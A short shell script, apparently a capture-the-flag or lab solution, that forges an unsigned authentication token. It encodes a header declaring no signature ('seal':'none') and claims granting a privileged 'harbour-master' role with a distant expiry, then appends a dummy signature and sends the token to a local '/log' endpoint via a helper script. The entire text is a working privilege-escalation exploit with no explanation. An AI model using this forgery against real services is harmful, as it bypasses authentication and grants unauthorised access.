h=$(printf '{"seal":"none","key":"gate-1"}' | base64 | tr -d '=\n'); c=$(printf '{"name":"x","role":"harbour-master","until":99}' | base64 | tr -d '=\n')
python3 "$(dirname "$0")/ask.py" -H "Pass: $h.$c.AA" http://127.0.0.1:8080/log
